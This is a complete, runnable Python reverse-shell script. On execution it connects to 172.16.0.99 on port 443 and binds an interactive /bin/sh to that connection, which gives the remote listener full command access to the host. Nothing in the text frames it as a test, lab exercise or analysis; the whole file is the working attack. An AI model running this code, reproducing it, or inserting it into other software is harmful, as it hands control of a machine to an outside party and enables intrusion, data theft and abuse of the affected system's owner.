import socket
import subprocess

HOST, PORT = "172.16.0.99", 443


def shell():
    sock = socket.socket()
    sock.connect((HOST, PORT))
    fd = sock.fileno()
    proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
    proc.wait()


shell()
